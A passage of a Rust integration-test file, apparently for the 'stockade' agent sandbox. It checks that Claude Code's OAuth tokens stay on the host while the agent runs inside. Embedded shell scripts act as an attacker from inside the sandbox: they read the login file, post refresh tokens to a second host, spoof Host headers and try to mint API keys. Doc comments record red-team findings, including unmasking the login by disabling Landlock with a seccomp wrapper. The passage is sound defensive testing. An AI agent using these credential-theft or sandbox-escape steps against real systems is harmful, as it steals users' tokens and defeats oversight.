//! Claude Code logged in with a subscription (OAuth) as the worker, its tokens never inside
//! (issue 31, item 2): `stockade run --agent claude-code --credential anthropic=claude-login --
//! claude`, with the real Claude Code CLI logged in through a host `.credentials.json` of
//! fake tokens, against a local test double of the Messages API that is also the login's
//! token endpoint (the policy file points the route and `token_url` at it).
//!
//! - The model calls carry the real access token (`Authorization: Bearer`), put on by the
//!   proxy; a Bash tool call scans every process's environment and command line, the agent's
//!   memory and the files it can see (the workspace, the home with the worker's state, `/tmp`):
//!   it finds stand-ins, never a real token.
//! - An expired login is refreshed on the host side: Claude Code's refresh (to
//!   `platform.claude.com`, which the proxy answers itself with the run's CA) gets fresh
//!   stand-ins, the real refresh goes to the fixed token endpoint with the real refresh token,
//!   the new real tokens go on the model calls and back into the host's file.
//! - A stand-in sent to another host (a second double) stays a stand-in; refreshes aimed
//!   elsewhere (another port, a `Host` or a body naming another endpoint, a wrong token, the
//!   previous refresh stand-in, another path) never bring the real refresh token anywhere but
//!   the fixed endpoint; the route refuses the endpoint that mints API keys.
//! - A link planted at the state directory's `.credentials.json` is replaced, not followed.
//!
//! The control runs the same agent and scan on the host with its real login file: the scan
//! finds the real token.

use std::sync::{Arc, Mutex};
use std::time::{Duration, SystemTime, UNIX_EPOCH};

use attacks::agent_scan::AgentCase;
use attacks::messages::{claude, reply};
use attacks::upstream::{Seen, Upstream};
use attacks::*;

fn now_ms() -> u64 {
    SystemTime::now()
        .duration_since(UNIX_EPOCH)
        .map(|d| d.as_millis() as u64)
        .unwrap_or(0)
}

/// The tokens the double's token endpoint hands out on a refresh.
struct Renewed {
    access: String,
    refresh: String,
}

/// The double: the prompt asks for `tool` (a Bash call), the tool's result gets a closing
/// text; a refresh at `/v1/oauth/token` gets `renewed`'s tokens; anything else a short text.
fn script(tool: String, renewed: Arc<Mutex<Option<Renewed>>>) -> attacks::upstream::Script {
    Arc::new(move |seen: &Seen| {
        if seen.target.starts_with("/v1/oauth/token") {
            let r = renewed.lock().ok();
            let r = r.as_ref().and_then(|r| r.as_ref());
            return match r {
                Some(r) => serde_json::json!({"token_type": "Bearer", "access_token": r.access,
                    "refresh_token": r.refresh, "expires_in": 28800,
                    "scope": "user:inference user:profile user:sessions:claude_code"})
                .to_string()
                .into_bytes(),
                None => br#"{"error":"invalid_grant"}"#.to_vec(),
            };
        }
        let body = String::from_utf8_lossy(&seen.body);
        let stream = body.contains("\"stream\":true");
        if body.contains("tool_result") {
            reply(stream, None, "ALL-DONE")
        } else if body.contains("SCAN-NOW") {
            reply(stream, Some(&tool), "")
        } else {
            reply(stream, None, "ok")
        }
    })
}

/// The host's Claude Code login: `~/.claude/.credentials.json` of the fixture's home, with
/// another secret beside it (an MCP server's token, which stays on the host).
fn host_login(fx: &Fixture, access: &str, refresh: &str, expires_at: u64) -> std::path::PathBuf {
    let dir = fx.home.join(".claude");
    mkdir(&dir);
    let path = dir.join(".credentials.json");
    let login = serde_json::json!({
        "claudeAiOauth": {"accessToken": access, "refreshToken": refresh,
            "expiresAt": expires_at,
            "scopes": ["user:inference", "user:profile", "user:sessions:claude_code"],
            "subscriptionType": "max", "rateLimitTier": "default_claude_max_5x"},
        "mcpOAuth": {"srv": {"accessToken": format!("sk-mcp-real-{}", fx.id)}}
    });
    write_file(&path, login.to_string(), 0o600);
    path
}

/// The policy: the route and the token endpoint are the double.
fn policy_file(fx: &Fixture, up: &Upstream) -> String {
    let p = fx.out_file("oauth-policy.toml");
    write_file(
        &p,
        format!(
            "[credentials.anthropic]\nupstream = \"{url}\"\nsource = {{ claude_login = \"~/.claude/.credentials.json\", token_url = \"{url}/v1/oauth/token\" }}\n",
            url = up.url()
        ),
        0o644,
    );
    p.display().to_string()
}

/// `stockade run --policy P --agent claude-code --credential anthropic=claude-login OPTS --
/// claude -p "SCAN-NOW please" --allowedTools Bash`.
fn run_claude(fx: &Fixture, up: &Upstream, decoy: &str, opts: &[&str]) -> Run {
    let claude = claude();
    let policy = policy_file(fx, up);
    let decoy_env = format!("DECOY={decoy}");
    let mut all = vec![
        "--policy",
        policy.as_str(),
        "--agent",
        "claude-code",
        "--credential",
        "anthropic=claude-login",
        "--env",
        decoy_env.as_str(),
    ];
    all.extend_from_slice(opts);
    fx.sandbox_argv(
        &all,
        &[
            claude.to_str().unwrap_or_default(),
            "-p",
            "SCAN-NOW please",
            "--allowedTools",
            "Bash",
        ],
    )
    .env("SSL_CERT_FILE", &up.ca_file)
    .timeout(Duration::from_secs(240))
    .run()
}

fn model_calls(seen: &[Seen]) -> Vec<&Seen> {
    seen.iter()
        .filter(|s| s.target.starts_with("/v1/messages"))
        .collect()
}

fn worker_state(fx: &Fixture) -> std::path::PathBuf {
    fx.home.join(".local/state/stockade/claude-code")
}

#[test]
fn a_subscription_login_works_through_the_route_and_no_real_token_is_inside() {
    if attacks::messages::CLAUDE_CLI.skip() {
        return;
    }
    let case = AgentCase::new("claude", "sk-ant-oat01");
    let fx = &case.fx;
    let refresh = format!("sk-ant-ort01-real-{}", fx.id);
    let host = host_login(fx, &case.real, &refresh, now_ms() + 8 * 3600 * 1000);
    let before = read_text(&host).unwrap_or_default();
    let up = Upstream::start_with(Some(script(case.tool_inside(), Arc::default())));
    let run = run_claude(fx, &up, &case.decoy, &[]);
    run.assert_success().assert_stdout_contains("ALL-DONE");
    let seen = up.seen();
    case.assert_held(&seen, "tool_result", &run);
    // Every model call carried the real access token, as a bearer token, and nothing else.
    let calls = model_calls(&seen);
    assert!(calls.len() >= 2, "{seen:#?}");
    let bearer = format!("Bearer {}", case.real);
    for c in &calls {
        assert_eq!(c.header("authorization"), Some(bearer.as_str()), "{c:#?}");
        assert_eq!(c.header("x-api-key"), None);
    }
    // No refresh was due; the host's login is as it was.
    assert!(!seen.iter().any(|s| s.target.starts_with("/v1/oauth")));
    assert_eq!(read_text(&host).unwrap_or_default(), before);
    // The scan saw the login inside (stand-ins), never the refresh token or the MCP token.
    let result = attacks::agent_scan::tool_output(&seen, "tool_result");
    assert!(
        result.contains("sk-ant-oat01-stockade-standin-"),
        "{result}"
    );
    assert!(!result.contains(&refresh), "{result}");
    assert!(!result.contains("sk-mcp-real-"), "{result}");
    let inside = read_json(&worker_state(fx).join(".credentials.json"));
    let oauth = &inside["claudeAiOauth"];
    assert!(json_str(oauth, "accessToken").starts_with("sk-ant-oat01-stockade-standin-"));
    assert!(json_str(oauth, "refreshToken").starts_with("sk-ant-ort01-stockade-standin-"));
    assert_eq!(json_str(oauth, "subscriptionType"), "max");
    assert!(inside.get("mcpOAuth").is_none(), "{inside}");
}

#[test]
fn an_expired_login_is_refreshed_on_the_host_side_at_the_fixed_endpoint() {
    if attacks::messages::CLAUDE_CLI.skip() {
        return;
    }
    let case = AgentCase::new("claude", "sk-ant-oat01");
    let fx = &case.fx;
    let refresh = format!("sk-ant-ort01-real-{}", fx.id);
    let host = host_login(fx, &case.real, &refresh, now_ms() - 3600 * 1000);
    let renewed = Renewed {
        access: format!("sk-ant-oat01-renewed-{}", fx.id),
        refresh: format!("sk-ant-ort01-renewed-{}", fx.id),
    };
    let (new_access, new_refresh) = (renewed.access.clone(), renewed.refresh.clone());
    let up = Upstream::start_with(Some(script(
        case.tool_inside(),
        Arc::new(Mutex::new(Some(renewed))),
    )));
    let run = run_claude(fx, &up, &case.decoy, &[]);
    run.assert_success().assert_stdout_contains("ALL-DONE");
    let seen = up.seen();
    case.assert_held(&seen, "tool_result", &run);
    // The refresh reached the fixed endpoint with the real refresh token, once.
    let refreshes: Vec<&Seen> = seen
        .iter()
        .filter(|s| s.target.starts_with("/v1/oauth/token"))
        .collect();
    assert_eq!(refreshes.len(), 1, "{seen:#?}");
    let body: serde_json::Value =
        serde_json::from_slice(&refreshes[0].body).unwrap_or(serde_json::Value::Null);
    assert_eq!(json_str(&body, "grant_type"), "refresh_token");
    assert_eq!(json_str(&body, "refresh_token"), refresh);
    assert_eq!(
        json_str(&body, "client_id"),
        "9d1c250a-e61b-44d9-88ed-5944d1962f5e"
    );
    // The model calls carried the renewed real token.
    let calls = model_calls(&seen);
    assert!(calls.len() >= 2, "{seen:#?}");
    let bearer = format!("Bearer {new_access}");
    assert!(
        calls
            .iter()
            .all(|c| c.header("authorization") == Some(bearer.as_str())),
        "{calls:#?}"
    );
    // Claude Code's own call to its API host after the refresh (its profile, not through the
    // base URL) went on the route too, with the renewed token: nothing was refused.
    let profile: Vec<&Seen> = seen
        .iter()
        .filter(|s| s.target.starts_with("/api/oauth/profile"))
        .collect();
    assert!(!profile.is_empty(), "{seen:#?}");
    assert!(profile
        .iter()
        .all(|c| c.header("authorization") == Some(bearer.as_str())));
    assert!(!run.stderr.contains("E_NETWORK_DENIED"), "{}", run.stderr);
    // The host's file holds the renewed login (its other secrets kept), so the host's own
    // Claude Code stays logged in.
    let on_host = read_json(&host);
    assert_eq!(
        json_str(&on_host["claudeAiOauth"], "accessToken"),
        new_access
    );
    assert_eq!(
        json_str(&on_host["claudeAiOauth"], "refreshToken"),
        new_refresh
    );
    assert!(on_host["claudeAiOauth"]["expiresAt"].as_u64().unwrap_or(0) > now_ms());
    assert!(json_str(&on_host["mcpOAuth"]["srv"], "accessToken").starts_with("sk-mcp-real-"));
    // Claude Code refreshed through the token host the proxy answers: it saved the fresh
    // stand-ins with the renewed expiry (the login it started with had expired).
    let inside = read_json(&worker_state(fx).join(".credentials.json"));
    let oauth = &inside["claudeAiOauth"];
    assert!(
        oauth["expiresAt"].as_u64().unwrap_or(0) > now_ms(),
        "{inside}"
    );
    assert!(json_str(oauth, "accessToken").starts_with("sk-ant-oat01-stockade-standin-"));
    assert!(json_str(oauth, "refreshToken").starts_with("sk-ant-ort01-stockade-standin-"));
    // Inside there are stand-ins only, the renewed ones too.
    let result = attacks::agent_scan::tool_output(&seen, "tool_result");
    for real in [&refresh, &new_access, &new_refresh] {
        assert!(!result.contains(real.as_str()), "{result}");
        assert!(!run.stdout.contains(real.as_str()) && !run.stderr.contains(real.as_str()));
        for f in walk(&worker_state(fx), &|_| false) {
            let text = String::from_utf8_lossy(&read_bytes(&f).unwrap_or_default()).into_owned();
            assert!(
                !text.contains(real.as_str()),
                "{} holds {real}",
                f.display()
            );
        }
    }
}

/// What the shell inside does with the login's stand-ins: each line names an attempt and
/// what came back.
const STEER: &str = r#"
set -u
login="$CLAUDE_CONFIG_DIR/.credentials.json"
field() { python3 -c 'import json,sys; print(json.load(open(sys.argv[1]))["claudeAiOauth"][sys.argv[2]])' "$login" "$1"; }
access=$(field accessToken); refresh=$(field refreshToken)
echo "standins ${access%%-stockade*} ${refresh%%-stockade*}"
tok=https://platform.claude.com/v1/oauth/token
body() { printf '{"grant_type":"refresh_token","refresh_token":"%s","client_id":"x","scope":"user:inference"}' "$1"; }
post() { curl -s -H 'content-type: application/json' "$@"; }
# The stand-ins to another host (through the proxy): it gets them as they are.
post -k --noproxy '' -o /dev/null -w "elsewhere=%{http_code}\n" -H "Authorization: Bearer $access" \
  -d "$(body "$refresh")" "$OTHER/v1/oauth/token"
# Another path at the token host, the token host on another port, a wrong refresh token.
post -o /dev/null -w "other-path=%{http_code}\n" -d "$(body "$refresh")" "$tok/x"
post -o /dev/null -w "other-port=%{http_code}\n" -d "$(body "$refresh")" https://platform.claude.com:8443/v1/oauth/token
post -o /dev/null -w "wrong=%{http_code}\n" -d "$(body sk-ant-ort01-guess)" "$tok"
# A refresh naming another endpoint in its Host header and its body: answered here.
post -o fresh.json -w "steer=%{http_code}\n" -H "Host: $OTHER_HOST" \
  -d "{\"grant_type\":\"refresh_token\",\"refresh_token\":\"$refresh\",\"token_endpoint\":\"$OTHER/v1/oauth/token\",\"redirect_uri\":\"$OTHER\"}" "$tok"
python3 -c 'import json; d=json.load(open("fresh.json")); print("fresh", d["access_token"][:30], d["refresh_token"][:30])'
new_access=$(python3 -c 'import json; print(json.load(open("fresh.json"))["access_token"])')
new_refresh=$(python3 -c 'import json; print(json.load(open("fresh.json"))["refresh_token"])')
# The previous refresh stand-in no longer refreshes; the new one does.
post -o /dev/null -w "reused=%{http_code}\n" -d "$(body "$refresh")" "$tok"
post -o /dev/null -w "again=%{http_code}\n" -d "$(body "$new_refresh")" "$tok"
# Both access stand-ins work on the route; minting an API key there is refused.
curl -s -o /dev/null -w "route=%{http_code}\n" -H "Authorization: Bearer $new_access" "$ANTHROPIC_BASE_URL/v1/models"
curl -s -o /dev/null -w "route-old=%{http_code}\n" -H "Authorization: Bearer $access" "$ANTHROPIC_BASE_URL/v1/models"
curl -s -o /dev/null -w "mint=%{http_code}\n" -X POST -H "Authorization: Bearer $new_access" "$ANTHROPIC_BASE_URL/api/oauth/claude_cli/create_api_key"
# Claude Code's API host, called directly: the same route (the stand-in checked, the real
# token put on, sent to the route's upstream), and the same refusals.
api=https://api.anthropic.com
curl -s -o /dev/null -w "api-host=%{http_code}\n" -H "Authorization: Bearer $new_access" "$api/v1/models"
curl -s -o /dev/null -w "api-host-guess=%{http_code}\n" -H "Authorization: Bearer sk-ant-oat01-guess" "$api/v1/models"
curl -s -o /dev/null -w "api-host-mint=%{http_code}\n" -X POST -H "Authorization: Bearer $new_access" "$api/api/oauth/claude_cli/create_api_key"
"#;

#[test]
fn a_stand_in_elsewhere_stays_one_and_refreshes_cannot_be_steered() {
    let fx = Fixture::new();
    let access = format!("sk-ant-oat01-real-{}", fx.id);
    let refresh = format!("sk-ant-ort01-real-{}", fx.id);
    // Expired: the refresh through the token host goes to the fixed endpoint.
    let host = host_login(&fx, &access, &refresh, now_ms() - 1000);
    let renewed = Renewed {
        access: format!("sk-ant-oat01-renewed-{}", fx.id),
        refresh: format!("sk-ant-ort01-renewed-{}", fx.id),
    };
    let new_access = renewed.access.clone();
    let up = Upstream::start_with(Some(script(
        String::new(),
        Arc::new(Mutex::new(Some(renewed))),
    )));
    let other = Upstream::start_with(Some(script(String::new(), Arc::default())));
    let policy = policy_file(&fx, &up);
    let other_env = format!("OTHER={}", other.url());
    let other_host = format!("OTHER_HOST=127.0.0.1:{}", other.port);
    let allow_other = format!("127.0.0.1:{}", other.port);
    let script_file = fx.script("steer.sh", STEER);
    let run = fx
        .sandbox_argv(
            &[
                "--policy",
                &policy,
                "--agent",
                "claude-code",
                "--credential",
                "anthropic=claude-login",
                "--allow-host",
                &allow_other,
                "--env",
                &other_env,
                "--env",
                &other_host,
            ],
            &["/bin/sh", script_file.to_str().unwrap_or_default()],
        )
        .env("SSL_CERT_FILE", &up.ca_file)
        .timeout(Duration::from_secs(120))
        .run();
    let out = run.stdout.clone();
    run.assert_success();
    assert!(
        out.contains("standins sk-ant-oat01 sk-ant-ort01"),
        "{}",
        run.describe()
    );
    for line in [
        "elsewhere=200",
        "other-path=404",
        "other-port=000",
        "wrong=400",
        "steer=200",
        "reused=400",
        "again=200",
        "route=200",
        "route-old=200",
        "mint=403",
        "api-host=200",
        "api-host-guess=401",
        "api-host-mint=403",
    ] {
        assert!(out.contains(line), "{line}: {}", run.describe());
    }
    assert!(
        out.contains("fresh sk-ant-oat01-stockade-standin- sk-ant-ort01-stockade-standin"),
        "{out}"
    );
    // The other host got stand-ins only, and never a refresh with a real token.
    let elsewhere = other.seen();
    assert!(!elsewhere.is_empty(), "the other host was reached");
    for s in &elsewhere {
        let text = format!("{:?} {}", s.headers, String::from_utf8_lossy(&s.body));
        assert!(text.contains("stockade-standin"), "{text}");
        assert!(
            !text.contains("-real-") && !text.contains("-renewed-"),
            "{text}"
        );
    }
    // The fixed endpoint got the real refresh token, once (the steered refresh; the next one
    // was answered from the login already renewed).
    let seen = up.seen();
    let refreshes: Vec<&Seen> = seen
        .iter()
        .filter(|s| s.target.starts_with("/v1/oauth/token"))
        .collect();
    assert_eq!(refreshes.len(), 1, "{seen:#?}");
    assert!(String::from_utf8_lossy(&refreshes[0].body).contains(&refresh));
    // The route carried the renewed real token; nothing of the real tokens came back out.
    let route: Vec<&Seen> = seen.iter().filter(|s| s.target == "/v1/models").collect();
    assert_eq!(route.len(), 3, "{seen:#?}");
    let bearer = format!("Bearer {new_access}");
    assert!(route
        .iter()
        .all(|r| r.header("authorization") == Some(bearer.as_str())));
    assert!(!seen.iter().any(|s| s.target.contains("create_api_key")));
    for real in [&access, &refresh, &new_access] {
        assert!(
            !out.contains(real.as_str()) && !run.stderr.contains(real.as_str()),
            "{out}"
        );
    }
    assert!(read_text(&host).unwrap_or_default().contains("-renewed-"));
}

/// Inside: the host's login file before and after a refresh Claude Code would make (through
/// the token host, with the refresh stand-in).
const AFTER_REFRESH: &str = r#"
host="$HOME/.claude/.credentials.json"
echo "before=$(head -c 300 "$host" 2>&1)"
refresh=$(python3 -c 'import json,sys; print(json.load(open(sys.argv[1]))["claudeAiOauth"]["refreshToken"])' "$CLAUDE_CONFIG_DIR/.credentials.json")
curl -s -o /dev/null -w "refresh=%{http_code}\n" -H 'content-type: application/json' \
  -d "{\"grant_type\":\"refresh_token\",\"refresh_token\":\"$refresh\"}" https://platform.claude.com/v1/oauth/token
echo "after=$(head -c 300 "$host" 2>&1)"
"#;

/// Red team F2/F4: the refreshed login written back into the host's file (a new file renamed
/// over it before) left the mount masking it inside on the old file, so the name inside showed
/// the renewed real tokens (Landlock the only stop, none under `--allow-degraded` on a kernel
/// without it). Now the file is rewritten in place: same inode, owner and mode, still masked.
/// Also with `--allow-read ~/.claude`. Control: the same test against the previous write-back
/// fails (measured: the host's file is another inode after the refresh). The read inside is
/// refused by Landlock as well (the preset keeps `~/.claude` read-only and its login denied);
/// the mask alone holding is the red team's `08-degraded-unmask.sh` (Landlock made ENOSYS by a
/// seccomp wrapper, `--allow-degraded`): the renewed tokens were read inside before, not now.
#[test]
fn a_refresh_written_back_leaves_the_host_login_masked_inside_and_in_place() {
    use std::os::unix::fs::MetadataExt;
    for extra in [false, true] {
        let fx = Fixture::new();
        let access = format!("sk-ant-oat01-real-{}", fx.id);
        let refresh = format!("sk-ant-ort01-real-{}", fx.id);
        let host = host_login(&fx, &access, &refresh, now_ms() - 1000);
        let before = std::fs::metadata(&host).unwrap_or_else(|e| panic!("{e}"));
        let renewed = Renewed {
            access: format!("sk-ant-oat01-renewed-{}", fx.id),
            refresh: format!("sk-ant-ort01-renewed-{}", fx.id),
        };
        let up = Upstream::start_with(Some(script(
            String::new(),
            Arc::new(Mutex::new(Some(renewed))),
        )));
        let policy = policy_file(&fx, &up);
        let claude_dir = fx.home.join(".claude").display().to_string();
        let mut opts = vec![
            "--policy",
            policy.as_str(),
            "--agent",
            "claude-code",
            "--credential",
            "anthropic=claude-login",
        ];
        if extra {
            opts.extend_from_slice(&["--allow-read", claude_dir.as_str()]);
        }
        let script_file = fx.script("after-refresh.sh", AFTER_REFRESH);
        let run = fx
            .sandbox_argv(
                &opts,
                &["/bin/sh", script_file.to_str().unwrap_or_default()],
            )
            .env("SSL_CERT_FILE", &up.ca_file)
            .timeout(Duration::from_secs(120))
            .run();
        let out = run.stdout.clone();
        run.assert_success();
        assert!(out.contains("refresh=200"), "{}", run.describe());
        // The real refresh happened and was written back on the host, in place.
        let on_host = read_text(&host).unwrap_or_default();
        assert!(on_host.contains("-renewed-"), "{on_host}");
        let after = std::fs::metadata(&host).unwrap_or_else(|e| panic!("{e}"));
        assert_eq!(
            (before.dev(), before.ino(), before.uid(), before.mode()),
            (after.dev(), after.ino(), after.uid(), after.mode()),
            "the host's login file was replaced, not rewritten"
        );
        // Inside, the login file's name shows nothing of it, before or after.
        let after_line = out
            .lines()
            .find(|l| l.starts_with("after="))
            .unwrap_or_default();
        assert!(!after_line.contains("claudeAiOauth"), "{out}");
        for real in [&access, &refresh] {
            assert!(!out.contains(real.as_str()), "{out}");
        }
        assert!(
            !out.contains("-renewed-") && !run.stderr.contains("-renewed-"),
            "{out}"
        );
    }
}

/// Red team F5: a host login file the renewed login cannot be written back into (not the
/// caller's to write, or a second name for it) is refused before the run: a refresh would
/// spend the host's refresh token and leave the host logged out. Control: the same file, one
/// name and writable, runs.
#[test]
fn a_host_login_the_write_back_could_not_reach_is_refused_before_the_run() {
    let fx = Fixture::new();
    let up = Upstream::start();
    let host = host_login(
        &fx,
        "sk-ant-oat01-real-w",
        "sk-ant-ort01-real-w",
        now_ms() + 3_600_000,
    );
    let policy = policy_file(&fx, &up);
    let run_true = || {
        fx.sandbox_argv(
            &[
                "--policy",
                &policy,
                "--agent",
                "claude-code",
                "--credential",
                "anthropic=claude-login",
            ],
            &["/bin/true"],
        )
        .env("SSL_CERT_FILE", &up.ca_file)
        .timeout(Duration::from_secs(60))
        .run()
    };
    // A second name (a hard link elsewhere): refused.
    let second = fx.outside.join("second-name.json");
    std::fs::hard_link(&host, &second).unwrap_or_else(|e| panic!("{e}"));
    run_true()
        .assert_failure()
        .assert_stderr_contains("E_CREDENTIAL_UNAVAILABLE")
        .assert_stderr_contains("hard links");
    std::fs::remove_file(&second).unwrap_or_else(|e| panic!("{e}"));
    // Read-only to its owner: refused (root writes it anyway: DAC does not bind root).
    if !is_root() {
        chmod(&host, 0o400);
        run_true()
            .assert_failure()
            .assert_stderr_contains("E_CREDENTIAL_UNAVAILABLE")
            .assert_stderr_contains("chmod u+w");
        chmod(&host, 0o600);
    }
    // Control: one name, writable.
    run_true().assert_success();
}

/// Inside: two refreshes at once with the one refresh stand-in, then one more.
const REFRESH_TWICE: &str = r#"
refresh=$(python3 -c 'import json,sys; print(json.load(open(sys.argv[1]))["claudeAiOauth"]["refreshToken"])' "$CLAUDE_CONFIG_DIR/.credentials.json")
go() { curl -s -o "$1" -w "%{http_code}\n" -H 'content-type: application/json' \
  -d "{\"grant_type\":\"refresh_token\",\"refresh_token\":\"$refresh\"}" https://platform.claude.com/v1/oauth/token; }
go a.json > a.code & go b.json > b.code & wait
echo "codes=$(cat a.code b.code | sort | tr '\n' ' ')"
echo "errors=$(cat a.json b.json | grep -o '"error":"[a-z_]*"' | tr '\n' ' ')"
"#;

/// Red team F7: a refresh the endpoint could not answer (unreachable) reached Claude Code as
/// `invalid_grant` (it logs out): now `temporarily_unavailable` (503), the login kept. Two
/// refreshes at once with one refresh stand-in: only one gets fresh stand-ins (checked again
/// as they are replaced), the other is refused as a reused one. Control: the endpoint up, the
/// refresh gets fresh stand-ins.
#[test]
fn a_refresh_the_endpoint_cannot_answer_is_temporary_and_a_stand_in_refreshes_once() {
    for down in [true, false] {
        let fx = Fixture::new();
        let refresh = format!("sk-ant-ort01-real-{}", fx.id);
        let host = host_login(
            &fx,
            &format!("sk-ant-oat01-real-{}", fx.id),
            &refresh,
            now_ms() - 1000,
        );
        let renewed = Renewed {
            access: format!("sk-ant-oat01-renewed-{}", fx.id),
            refresh: format!("sk-ant-ort01-renewed-{}", fx.id),
        };
        let up = Upstream::start_with(Some(script(
            String::new(),
            Arc::new(Mutex::new(Some(renewed))),
        )));
        // Down: the token endpoint a port nothing listens on.
        let token_url = if down {
            let free = std::net::TcpListener::bind("127.0.0.1:0").unwrap_or_else(|e| panic!("{e}"));
            let port = free.local_addr().map(|a| a.port()).unwrap_or(1);
            drop(free);
            format!("https://127.0.0.1:{port}/v1/oauth/token")
        } else {
            format!("{}/v1/oauth/token", up.url())
        };
        let policy = fx.out_file("oauth-policy.toml");
        write_file(
            &policy,
            format!(
                "[credentials.anthropic]\nupstream = \"{}\"\nsource = {{ claude_login = \"~/.claude/.credentials.json\", token_url = \"{token_url}\" }}\n",
                up.url()
            ),
            0o644,
        );
        let policy = policy.display().to_string();
        let script_file = fx.script("refresh-twice.sh", REFRESH_TWICE);
        let run = fx
            .sandbox_argv(
                &[
                    "--policy",
                    &policy,
                    "--agent",
                    "claude-code",
                    "--credential",
                    "anthropic=claude-login",
                ],
                &[
                    "/bin/sh",
                    "-c",
                    &format!("cd /tmp && /bin/sh {}", script_file.display()),
                ],
            )
            .env("SSL_CERT_FILE", &up.ca_file)
            .timeout(Duration::from_secs(120))
            .run();
        let out = run.stdout.clone();
        run.assert_success();
        if down {
            assert!(out.contains("codes=503 503 "), "{}", run.describe());
            assert!(
                out.contains(
                    "\"error\":\"temporarily_unavailable\" \"error\":\"temporarily_unavailable\""
                ),
                "{}",
                run.describe()
            );
            assert!(!out.contains("invalid_grant"), "{}", run.describe());
            // The host's login is as it was.
            assert!(read_text(&host).unwrap_or_default().contains(&refresh));
        } else {
            assert!(out.contains("codes=200 400 "), "{}", run.describe());
            assert!(
                out.contains("\"error\":\"invalid_grant\""),
                "{}",
                run.describe()
            );
            assert!(read_text(&host).unwrap_or_default().contains("-renewed-"));
        }
    }
}

#[test]
fn a_link_planted_at_the_state_login_is_replaced_not_followed() {
    let fx = Fixture::new();
    let access = format!("sk-ant-oat01-real-{}", fx.id);
    let host = host_login(&fx, &access, "sk-ant-ort01-real-r", now_ms() + 3_600_000);
    let before = read_text(&host).unwrap_or_default();
    let up = Upstream::start_with(Some(script(String::new(), Arc::default())));
    // A run of the sandbox planted a link where the login goes, at a file of the host's.
    let state = worker_state(&fx);
    mkdir(&state);
    let victim = fx.outside.join("victim.txt");
    write_file(&victim, "the host's file\n", 0o644);
    let _ = std::fs::remove_file(state.join(".credentials.json"));
    std::os::unix::fs::symlink(&victim, state.join(".credentials.json"))
        .unwrap_or_else(|e| panic!("{e}"));
    let policy = policy_file(&fx, &up);
    let run = fx
        .sandbox_argv(
            &[
                "--policy",
                &policy,
                "--agent",
                "claude-code",
                "--credential",
                "anthropic=claude-login",
            ],
            &[
                "/bin/sh",
                "-c",
                "head -c 40 \"$CLAUDE_CONFIG_DIR/.credentials.json\"",
            ],
        )
        .env("SSL_CERT_FILE", &up.ca_file)
        .timeout(Duration::from_secs(60))
        .run();
    run.assert_success()
        .assert_stdout_contains("{\"claudeAiOauth\":");
    assert_eq!(read_text(&victim).as_deref(), Some("the host's file\n"));
    let meta = std::fs::symlink_metadata(state.join(".credentials.json"))
        .unwrap_or_else(|e| panic!("{e}"));
    assert!(meta.is_file(), "the link was replaced by the login");
    assert_eq!(read_text(&host).unwrap_or_default(), before);
}

#[test]
fn a_host_login_the_command_could_write_is_refused() {
    let fx = Fixture::new();
    let up = Upstream::start();
    host_login(
        &fx,
        "sk-ant-oat01-real-x",
        "sk-ant-ort01-real-x",
        now_ms() + 3_600_000,
    );
    let policy = policy_file(&fx, &up);
    // The host's ~/.claude made writable: the command could put its own login there.
    let claude_dir = fx.home.join(".claude").display().to_string();
    let run = fx
        .sandbox_argv(
            &[
                "--policy",
                &policy,
                "--agent",
                "claude-code",
                "--credential",
                "anthropic=claude-login",
                "--allow-write",
                &claude_dir,
            ],
            &["/bin/true"],
        )
        .env("SSL_CERT_FILE", &up.ca_file)
        .run();
    run.assert_failure()
        .assert_stderr_contains("E_CREDENTIAL_UNAVAILABLE")
        .assert_stderr_contains("which the command can write");
    // No login at all: the refusal says how to log in.
    let fx = Fixture::new();
    let policy = policy_file(&fx, &up);
    let run = fx
        .sandbox_argv(
            &[
                "--policy",
                &policy,
                "--agent",
                "claude-code",
                "--credential",
                "anthropic=claude-login",
            ],
            &["/bin/true"],
        )
        .env("SSL_CERT_FILE", &up.ca_file)
        .run();
    run.assert_failure()
        .assert_stderr_contains("E_CREDENTIAL_UNAVAILABLE")
        .assert_stderr_contains("log in on the host");
}

#[test]
fn control_without_stockade_the_scan_finds_the_real_token() {
    if attacks::messages::CLAUDE_CLI.skip() {
        return;
    }
    let claude = claude();
    if is_root() {
        // As in claude_code_credential.rs: Claude Code runs its tools as root only with
        // permission prompts, which -p cannot answer; the unprivileged pass runs this.
        println!("skipped as root: the control runs in the unprivileged pass");
        return;
    }
    let case = AgentCase::new("claude", "sk-ant-oat01");
    let refresh = format!("sk-ant-ort01-real-{}", case.fx.id);
    let up = Upstream::start_with(Some(script(case.tool(&[&case.state]), Arc::default())));
    // The agent's own state directory holds the real login, as on a host without stockade.
    write_file(
        &case.state.join(".credentials.json"),
        serde_json::json!({"claudeAiOauth": {"accessToken": case.real, "refreshToken": refresh,
            "expiresAt": now_ms() + 3_600_000, "scopes": ["user:inference"],
            "subscriptionType": "max"}})
        .to_string(),
        0o600,
    );
    let mut cmd = Cmd::new(&claude, &case.fx.ws)
        .env("HOME", &case.fx.home)
        .env("ANTHROPIC_BASE_URL", up.url())
        .env("NODE_EXTRA_CA_CERTS", &up.ca_file)
        .env("CLAUDE_CONFIG_DIR", &case.state)
        .env("DISABLE_TELEMETRY", "1")
        .env("CLAUDE_CODE_DISABLE_NONESSENTIAL_TRAFFIC", "1")
        .timeout(Duration::from_secs(180));
    for a in ["-p", "SCAN-NOW please", "--allowedTools", "Bash"] {
        cmd = cmd.arg(a);
    }
    cmd.run().assert_success();
    let seen = up.seen();
    case.assert_found(&seen, "tool_result");
    let bearer = format!("Bearer {}", case.real);
    assert!(model_calls(&seen)
        .iter()
        .all(|c| c.header("authorization") == Some(bearer.as_str())));
}

#[test]
fn the_agent_preset_without_a_key_uses_the_host_login_and_without_either_names_both() {
    if attacks::messages::CLAUDE_CLI.skip() {
        return;
    }
    let claude = claude();
    let fx = Fixture::new();
    let access = format!("sk-ant-oat01-real-{}", fx.id);
    let host = host_login(&fx, &access, "sk-ant-ort01-real-r", now_ms() + 3_600_000);
    let up = Upstream::start_with(Some(script(String::new(), Arc::default())));
    // Only the route's upstream changed: the source is the preset's (ANTHROPIC_API_KEY).
    let policy = fx.out_file("upstream-only.toml");
    write_file(
        &policy,
        format!("[credentials.anthropic]\nupstream = \"{}\"\n", up.url()),
        0o644,
    );
    let policy = policy.display().to_string();
    let run = |key: Option<&str>| {
        let mut cmd = fx
            .sandbox_argv(
                &["--policy", &policy, "--agent", "claude-code"],
                &[claude.to_str().unwrap_or_default(), "-p", "hello"],
            )
            .env("SSL_CERT_FILE", &up.ca_file)
            .timeout(Duration::from_secs(180));
        if let Some(k) = key {
